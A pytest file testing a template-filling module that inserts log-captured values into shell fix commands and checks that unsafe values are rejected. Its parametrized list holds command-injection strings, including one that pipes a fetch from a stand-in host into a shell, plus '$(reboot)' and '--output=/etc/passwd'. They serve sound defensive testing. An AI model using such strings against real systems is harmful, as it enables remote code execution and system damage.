import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from diagnosis.engine.filling import fill, fill_command, fill_fix
from encyclopedia.catalogue import Fix


def test_it_works() -> None:
    assert fill("Raise the limit of <container>.", {"container": "trainer"}) == (
        "Raise the limit of trainer."
    )
    assert fill_command("kubectl logs '<pod>'", {"pod": "run-7"}) == "kubectl logs 'run-7'"


def test_what_the_log_does_not_tell_stays_to_be_filled_in() -> None:
    assert fill_command("ls '<folder>' '<x>'", {"folder": "/data"}) == "ls '/data' '<x>'"


@pytest.mark.parametrize(
    "value",
    [
        "x;curl${IFS}evil|sh",
        "$(reboot)",
        "`id`",
        "a b",
        "a'b",
        'a"b',
        "a\nb",
        "a\\b",
        "-rf",
        "--output=/etc/passwd",
        "~root",
        "a*",
        "<ip-1>",
        "größe",
        "",
        "x" * 300,
    ],
)
def test_hostile_captures_never_reach_a_command(value: str) -> None:
    assert fill_command("kubectl logs '<pod>'", {"pod": value}) == "kubectl logs '<pod>'"


@given(st.text(max_size=20))
def test_whatever_is_filled_in_is_one_harmless_word_to_a_shell(value: str) -> None:
    command = fill_command("printf %s <word>", {"word": value})
    if command != "printf %s <word>":
        done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, check=True)
        assert done.stdout == value


def test_a_value_cannot_smuggle_in_another_placeholder() -> None:
    values = {"a": "<b>", "b": "secret"}
    assert fill("<a>", values) == "<b>"
    assert fill_command("echo <a>", values) == "echo <a>"


def test_braces_and_percent_signs_of_a_text_are_left_alone() -> None:
    assert fill("{0} %s ${HOME} <pod>", {"pod": "x"}) == "{0} %s ${HOME} x"


def test_a_fix_is_filled_in_all_its_parts() -> None:
    fix = Fix(
        summary="Free <host>.",
        command="ssh <host> df",
        verify="ssh <host> df -i",
        expect="Less than 90 %.",
        infra="Watch it.",
    )
    filled = fill_fix(fix, {"host": "node-7"})
    assert (filled.summary, filled.command) == ("Free node-7.", "ssh node-7 df")
    assert (filled.verify, filled.expect) == ("ssh node-7 df -i", "Less than 90 %.")
    assert filled.infra == "Watch it."


@pytest.mark.parametrize(
    ("captures", "summary"),
    [
        ({"free": "2", "total": "80"}, "Free some. 2 of 80 GiB were free."),
        ({"free": "2"}, "Free some."),
        ({}, "Free some."),
    ],
)
def test_what_a_log_tells_is_added_where_it_tells_all_of_it(
    captures: dict[str, str], summary: str
) -> None:
    fix = Fix(summary="Free some.", told="<free> of <total> GiB were free.")
    assert fill_fix(fix, captures).summary == summary
